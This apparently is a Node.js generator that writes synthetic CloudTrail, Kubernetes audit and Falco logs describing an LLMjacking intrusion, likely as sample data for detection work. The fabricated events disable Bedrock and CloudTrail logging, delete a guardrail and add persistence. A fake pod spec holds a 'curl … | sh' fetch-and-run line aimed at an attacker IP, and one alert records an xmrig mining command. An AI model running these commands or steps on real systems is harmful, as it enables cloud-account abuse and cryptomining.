#!/usr/bin/env node
// Writes the LLMjacking story of the ai-lab example (deterministic, no network):
//   cloudtrail/…/*.json  CloudTrail S3 layout, {"Records":[…]} form
//   k8s-audit.jsonl      Kubernetes audit events (audit.k8s.io/v1, JSON lines)
//   falco.jsonl          Falco json_output alerts
// Run: node examples/ai-lab/logs/generate.mjs
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';

const here = dirname(fileURLToPath(import.meta.url));
const T0 = Date.parse('2026-11-20T10:00:00Z');
const at = (sec) => new Date(T0 + sec * 1000).toISOString().replace('.000Z', 'Z');
let n = 0;
const id = (p) => `${p}${String(++n).padStart(7, '0')}-4b1d-4c1a-9e2f-${String(n * 7919).padStart(12, '0')}`;

const ATTACKER_IP = '185.220.101.45';
// The key leaked from examples/ai-lab/.env (see the secrets scanner's findings).
const stolen = { type: 'IAMUser', principalId: 'AIDA4AILABDEV0000001', arn: 'arn:aws:iam::111122223333:user/ai-lab-dev', accountId: '111122223333', accessKeyId: 'AKIA4AILABDEV0000001', userName: 'ai-lab-dev' };
const app = {
  type: 'AssumedRole', principalId: 'AROA4AILABCHAT000001:chat-api', arn: 'arn:aws:sts::111122223333:assumed-role/ai-lab-chat/chat-api', accountId: '111122223333', accessKeyId: 'ASIA4AILABCHAT000001',
  sessionContext: { sessionIssuer: { type: 'Role', principalId: 'AROA4AILABCHAT000001', arn: 'arn:aws:iam::111122223333:role/ai-lab-chat', accountId: '111122223333', userName: 'ai-lab-chat' }, attributes: { creationDate: at(-3600), mfaAuthenticated: 'false' } },
};
const bob = { type: 'IAMUser', principalId: 'AIDA4AILABBOB0000001', arn: 'arn:aws:iam::111122223333:user/bob', accountId: '111122223333', userName: 'bob' };

function ct(sec, source, name, extra = {}) {
  return {
    eventVersion: '1.09', userIdentity: stolen, eventTime: at(sec), eventSource: `${source}.amazonaws.com`, eventName: name, awsRegion: 'us-east-1',
    sourceIPAddress: ATTACKER_IP, userAgent: 'Boto3/1.34.11 md/Botocore#1.34.11 ua/2.0 os/linux#6.5.0 md/arch#x86_64 lang/python#3.11.6',
    requestParameters: null, responseElements: null, requestID: id('r'), eventID: id('e'), readOnly: false, eventType: 'AwsApiCall',
    managementEvent: true, recipientAccountId: '111122223333', eventCategory: 'Management', ...extra,
  };
}
const models = ['anthropic.claude-3-5-sonnet-20240620-v1:0', 'anthropic.claude-3-opus-20240229-v1:0', 'anthropic.claude-3-haiku-20240307-v1:0', 'meta.llama3-1-405b-instruct-v1:0', 'mistral.mistral-large-2407-v1:0', 'cohere.command-r-plus-v1:0'];
const invoke = (sec, model, extra = {}) => ct(sec, 'bedrock', 'InvokeModel', { readOnly: true, requestParameters: { modelId: model }, ...extra });

const records = [
  // Normal traffic: a teammate signs in with MFA; the chat API uses its one model.
  ct(-600, 'signin', 'ConsoleLogin', { userIdentity: bob, sourceIPAddress: '198.51.100.10', userAgent: 'Mozilla/5.0', eventType: 'AwsConsoleSignIn', additionalEventData: { LoginTo: 'https://console.aws.amazon.com/console/home', MobileVersion: 'No', MFAUsed: 'Yes' }, responseElements: { ConsoleLogin: 'Success' } }),
  ...[-300, -120, 30, 200, 400].map((s) => ct(s, 'bedrock', 'Converse', { userIdentity: app, sourceIPAddress: '10.0.12.7', userAgent: 'Boto3/1.34.11', readOnly: true, requestParameters: { modelId: 'anthropic.claude-3-haiku-20240307-v1:0' } })),
  // 1. The stolen key is tested, logging is checked and turned off.
  ct(5, 'sts', 'GetCallerIdentity', { readOnly: true }),
  ct(40, 'bedrock', 'GetModelInvocationLoggingConfiguration', { readOnly: true }),
  ct(70, 'bedrock', 'DeleteModelInvocationLoggingConfiguration'),
  // 2. Recon and model access.
  ct(90, 'bedrock', 'ListFoundationModels', { readOnly: true }),
  ct(120, 'bedrock', 'GetFoundationModelAvailability', { readOnly: true, requestParameters: { modelId: models[0] } }),
  // 3. Probing models the key cannot use yet.
  ...Array.from({ length: 12 }, (_, i) => invoke(130 + i * 5, models[i % models.length], { errorCode: 'AccessDeniedException', errorMessage: 'You don\'t have access to the model with the specified model ID.' })),
  ct(200, 'bedrock', 'PutUseCaseForModelAccess', { requestParameters: { formData: 'eyJjb21wYW55TmFtZSI6IkFjbWUifQ==' } }),
  ct(210, 'bedrock', 'CreateFoundationModelAgreement', { requestParameters: { modelId: models[0], offerToken: '***' }, responseElements: { modelId: models[0] } }),
  // 4. Invocation across many models (resold access).
  ...models.map((m, i) => invoke(300 + i * 20, m)),
  // 5. Guardrail removed, persistence on the Bedrock API-key user, logging stopped.
  ct(600, 'bedrock', 'DeleteGuardrail', { requestParameters: { guardrailIdentifier: 'gr-ailab-pii' } }),
  ct(660, 'iam', 'CreateLoginProfile', { requestParameters: { userName: 'BedrockAPIKey-ailab', passwordResetRequired: false } }),
  ct(720, 'cloudtrail', 'StopLogging', { requestParameters: { name: 'arn:aws:cloudtrail:us-east-1:111122223333:trail/ai-lab' } }),
];
records.sort((a, b) => a.eventTime.localeCompare(b.eventTime));

const ctDir = join(here, 'cloudtrail/AWSLogs/111122223333/CloudTrail/us-east-1/2026/11/20');
mkdirSync(ctDir, { recursive: true });
writeFileSync(join(ctDir, '111122223333_CloudTrail_us-east-1_20261120T1000Z_llmjacking.json'), JSON.stringify({ Records: records }) + '\n');

function audit(sec, verb, objectRef, extra = {}) {
  const ns = objectRef.namespace ? `/namespaces/${objectRef.namespace}` : '';
  return {
    kind: 'Event', apiVersion: 'audit.k8s.io/v1', level: 'RequestResponse', auditID: id('a'), stage: 'ResponseComplete',
    requestURI: `/api/v1${ns}/${objectRef.resource}${objectRef.name ? '/' + objectRef.name : ''}${objectRef.subresource ? '/' + objectRef.subresource : ''}`,
    verb, user: { username: 'ai-lab-dev', groups: ['system:authenticated', 'ai-lab:developers'] }, sourceIPs: [ATTACKER_IP], userAgent: 'kubectl/v1.30.2 (linux/amd64) kubernetes/39683505',
    objectRef: { apiVersion: 'v1', ...objectRef }, responseStatus: { metadata: {}, code: 200 }, requestReceivedTimestamp: at(sec), stageTimestamp: at(sec + 1),
    annotations: { 'authorization.k8s.io/decision': 'allow', 'authorization.k8s.io/reason': 'RBAC: allowed by ClusterRoleBinding "ai-lab-developers"' }, ...extra,
  };
}
const minerPod = {
  apiVersion: 'v1', kind: 'Pod', metadata: { name: 'ray-worker-gpu-cache', namespace: 'ray' },
  spec: {
    hostPID: true,
    containers: [{ name: 'worker', image: 'docker.io/rayproject/ray:2.9.0-gpu', command: ['/bin/sh', '-c', 'curl -s http://185.220.101.45/x | sh'], resources: { limits: { 'nvidia.com/gpu': '8' } }, securityContext: { privileged: true } }],
    volumes: [{ name: 'host', hostPath: { path: '/' } }],
  },
};
const auditEvents = [
  audit(-500, 'get', { resource: 'pods', namespace: 'ray', name: 'raycluster-kuberay-head-x7k2p' }, { user: { username: 'system:serviceaccount:kuberay:kuberay-operator' }, sourceIPs: ['10.0.0.5'] }),
  audit(800, 'create', { resource: 'pods', namespace: 'ray', name: 'raycluster-kuberay-head-x7k2p', subresource: 'exec' }, { responseStatus: { metadata: {}, code: 101 }, requestURI: '/api/v1/namespaces/ray/pods/raycluster-kuberay-head-x7k2p/exec?command=sh&container=ray-head&stdin=true&stdout=true&tty=true' }),
  audit(860, 'create', { resource: 'pods', namespace: 'ray', name: 'ray-worker-gpu-cache' }, { requestObject: minerPod, responseStatus: { metadata: {}, code: 201 } }),
  audit(900, 'patch', { resource: 'rayjobs', namespace: 'ray', name: 'nightly-finetune', apiGroup: 'ray.io', apiVersion: 'v1' }),
  audit(950, 'list', { resource: 'secrets', namespace: 'kubeflow-user-ai-lab' }, { user: { username: 'system:serviceaccount:kubeflow-user-ai-lab:default-editor', groups: ['system:serviceaccounts'] }, sourceIPs: ['10.0.33.14'], userAgent: 'python-requests/2.31.0' }),
];
writeFileSync(join(here, 'k8s-audit.jsonl'), auditEvents.map((e) => JSON.stringify(e)).join('\n') + '\n');

function falco(sec, rule, priority, output, fields) {
  return { uuid: id('f'), hostname: 'gpu-node-3', output, priority, rule, source: 'syscall', tags: ['container', 'mitre_execution'], time: at(sec).replace('Z', '.123456789Z'), output_fields: { 'container.image.repository': 'docker.io/rayproject/ray', 'container.image.tag': '2.9.0-gpu', 'container.name': 'ray-head', 'k8s.ns.name': 'ray', 'k8s.pod.name': 'raycluster-kuberay-head-x7k2p', 'user.name': 'ray', ...fields } };
}
const falcoEvents = [
  falco(801, 'Terminal shell in container', 'Notice', 'A shell was spawned in a container with an attached terminal (user=ray container_image=docker.io/rayproject/ray)', { 'proc.cmdline': 'sh', 'proc.name': 'sh' }),
  falco(870, 'Detect crypto miners using the Stratum protocol', 'Critical', 'Possible miner running (command=xmrig -o stratum+tcp://pool.example:3333)', { 'proc.cmdline': 'xmrig -o stratum+tcp://pool.example:3333', 'container.name': 'worker', 'k8s.pod.name': 'ray-worker-gpu-cache' }),
  falco(880, 'Terminal shell in container', 'Notice', 'A shell was spawned in a container with an attached terminal (user=root container_image=docker.io/library/nginx)', { 'container.image.repository': 'docker.io/library/nginx', 'container.name': 'web', 'k8s.ns.name': 'default', 'k8s.pod.name': 'web-5d9c' }),
];
writeFileSync(join(here, 'falco.jsonl'), falcoEvents.map((e) => JSON.stringify(e)).join('\n') + '\n');
console.log(`wrote ${records.length} CloudTrail records, ${auditEvents.length} audit events, ${falcoEvents.length} Falco alerts`);
